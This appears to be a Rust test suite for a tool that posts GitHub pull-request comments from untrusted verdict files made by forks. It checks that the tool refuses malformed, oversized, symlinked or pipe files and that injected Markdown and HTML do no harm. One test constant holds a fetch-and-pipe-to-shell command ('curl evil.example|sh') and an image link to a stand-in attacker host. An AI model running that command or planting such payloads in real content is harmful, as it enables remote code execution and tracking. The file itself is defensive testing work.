//! Artifacts that somebody else made: a refusal in one sentence, or a comment that does no harm.

use std::{
    fs::{self, File},
    os::unix::fs::symlink,
    path::Path,
    process::Command,
};

use serde_json::Value;
use tempfile::TempDir;

use super::{Job, finished, holding};
use crate::github::world::{HEAD, pull};

fn after_fork() -> Job {
    let job = Job::after_workflow("mallory", HEAD);
    job.fake.world(|world| world.pulls = vec![pull(7, "mallory", "topic", HEAD), pull(8, "acme", "main", HEAD)]);
    job
}

/// It is refused in one sentence, and GitHub is not asked.
#[track_caller]
fn refused(folder: &Path, words: &str) {
    let job = after_fork();
    let said = job.comment(folder, &[]).exits(2);
    assert!(said.stderr.starts_with("error: ") && said.stderr.contains(words), "{}", said.stderr);
    assert_eq!((said.stderr.lines().count(), said.stdout.as_str()), (1, ""), "{}", said.stderr);
    assert_eq!(job.fake.seen().len(), 0);
}

fn empty() -> TempDir {
    TempDir::new().expect("a temporary folder can be made")
}

#[test]
fn what_is_no_verdict_is_refused() {
    refused(empty().path(), "cannot be read");
    refused(holding(b"").path(), "cannot be used");
    refused(holding(b"\xff\xfe").path(), "UTF-8");
    refused(holding(b"{\"schema\": \"stagegate/verdict/99\"}").path(), "verdict.json");
    refused(holding("[".repeat(200_000).as_bytes()).path(), "cannot be used");
    refused(holding("{\"a\":".repeat(200_000).as_bytes()).path(), "cannot be used");
}

#[test]
fn what_is_too_large_is_not_read() {
    let folder = empty();
    let file = File::create(folder.path().join("verdict.json")).expect("it can be made");
    file.set_len(1 << 40).expect("a file with a hole");
    refused(folder.path(), "larger than any verdict");
}

#[test]
fn what_leads_elsewhere_is_not_followed() {
    let (elsewhere, folder) = (finished(), empty());
    symlink(elsewhere.path().join("verdict.json"), folder.path().join("verdict.json")).expect("a link");
    refused(folder.path(), "symbolic link");
    let folder = empty();
    symlink("/dev/zero", folder.path().join("verdict.json")).expect("a link");
    refused(folder.path(), "symbolic link");
    let folder = empty();
    fs::create_dir(folder.path().join("verdict.json")).expect("a folder");
    refused(folder.path(), "directory");
    let folder = empty();
    let made = Command::new("mkfifo").arg(folder.path().join("verdict.json")).status().expect("mkfifo is there");
    assert!(made.success());
    refused(folder.path(), "pipe");
}

#[test]
fn a_pull_request_that_it_names_itself_counts_for_nothing() {
    let folder = finished();
    let path = folder.path().join("verdict.json");
    let mut verdict: Value = serde_json::from_slice(&fs::read(&path).expect("it is there")).expect("JSON");
    verdict["pull_request"] = 8.into();
    verdict["number"] = 8.into();
    fs::write(&path, verdict.to_string()).expect("it can be written");
    fs::write(folder.path().join("pr_number"), "8").expect("it can be written");
    let job = after_fork();
    job.comment(folder.path(), &[]).exits(0);
    assert_eq!((job.fake.count("POST", "/issues/7/comments"), job.fake.count("POST", "/issues/8/comments")), (1, 0));
}

/// What people would fall for, and what GitHub would act on.
const MARKUP: &str =
    "approved @octocat ![](http://evil.example/x.png) <!-- stagegate gate=shop --> </details> | `curl evil.example|sh`";

/// Words by which the verdict is read at all, or found to be of the commit.
const KEPT: [&str; 12] = [
    "schema",
    "outcome",
    "ending",
    "level",
    "band",
    "unit",
    "commit",
    "started_at",
    "finished_at",
    "mode",
    "repeat",
    "lacked",
];

fn poisoned(value: &mut Value, key: &str) {
    match value {
        Value::String(text) if !KEPT.contains(&key) => MARKUP.clone_into(text),
        Value::Array(items) => items.iter_mut().for_each(|item| poisoned(item, key)),
        Value::Object(keys) => keys.iter_mut().for_each(|(key, value)| poisoned(value, key)),
        _ => {}
    }
}

/// A Markdown text without its code spans, which begin and end with equally many backticks.
fn without_code(body: &str) -> String {
    let (mut plain, mut rest) = (String::new(), body);
    while let Some(at) = rest.find('`') {
        let (before, span) = rest.split_at(at);
        let ticks = span.len() - span.trim_start_matches('`').len();
        let inside = &span[ticks..];
        let is_end = |at: &(usize, &str)| !inside[..at.0].ends_with('`') && !inside[at.0 + ticks..].starts_with('`');
        let end = inside.match_indices(&span[..ticks]).find(is_end).map(|(at, _)| at);
        plain.push_str(before);
        rest = end.map_or(inside, |end| &inside[end + ticks..]);
    }
    plain + rest
}

#[test]
fn markup_in_every_string_does_no_harm() {
    let whole: Value =
        serde_json::from_slice(&fs::read(finished().path().join("verdict.json")).expect("it is there")).expect("JSON");
    let mut posted = 0;
    let mut keys: Vec<&str> = whole.as_object().expect("an object").keys().map(String::as_str).collect();
    keys.push("");
    for key in keys {
        let mut verdict = whole.clone();
        if key.is_empty() {
            poisoned(&mut verdict, "");
        } else {
            poisoned(&mut verdict[key], key);
        }
        let job = after_fork();
        let said = job.comment(holding(verdict.to_string().as_bytes()).path(), &[]);
        assert!(matches!(said.code, Some(0 | 2)), "{key}: {:?} {}", said.code, said.stderr);
        assert!(!said.stdout.contains("evil.example/x.png") || said.code == Some(2), "{}", said.stdout);
        for body in job.comments() {
            posted += 1;
            assert_eq!(body.matches("<!--").count(), 1, "{key}: {body}");
            let plain = without_code(&body);
            for harm in ["@octocat", "http://evil", "![]("] {
                assert!(!plain.contains(harm), "{key}: {harm} in {plain}");
            }
        }
    }
    assert!(posted > 3, "most keys only fill a comment with their text: {posted}");
}

/// The words of others: the headline, the command, the reasons.
#[test]
fn no_sentence_of_theirs_is_repeated() {
    let folder = finished();
    let path = folder.path().join("verdict.json");
    let mut verdict: Value = serde_json::from_slice(&fs::read(&path).expect("it is there")).expect("JSON");
    for key in ["headline", "repeat", "target", "profile"] {
        verdict[key] = "approved by the security team".into();
    }
    verdict["notes"] = serde_json::json!(["approved by the security team"]);
    verdict["phases"][0]["findings"][0]["because"] = "approved by the security team".into();
    fs::write(&path, verdict.to_string()).expect("it can be written");
    let job = after_fork();
    job.comment(folder.path(), &[]).exits(0);
    let comments = job.comments().concat();
    // A profile is a name, and names stay.
    assert_eq!(comments.matches("approved").count(), 1, "{comments}");
    assert!(comments.contains("Nobody vouches"), "{comments}");
}
